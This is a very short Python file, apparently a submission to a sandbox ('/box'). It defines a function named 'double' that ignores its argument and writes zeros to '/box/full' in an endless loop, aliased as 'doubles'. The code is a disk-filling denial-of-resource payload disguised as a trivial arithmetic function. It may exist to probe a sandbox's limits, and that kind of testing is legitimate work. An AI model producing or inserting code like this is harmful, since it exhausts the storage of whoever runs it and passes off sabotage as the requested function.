def double(n):
    with open("/box/full", "wb") as file:
        while True:
            file.write(b"0" * 10**6)


doubles = double
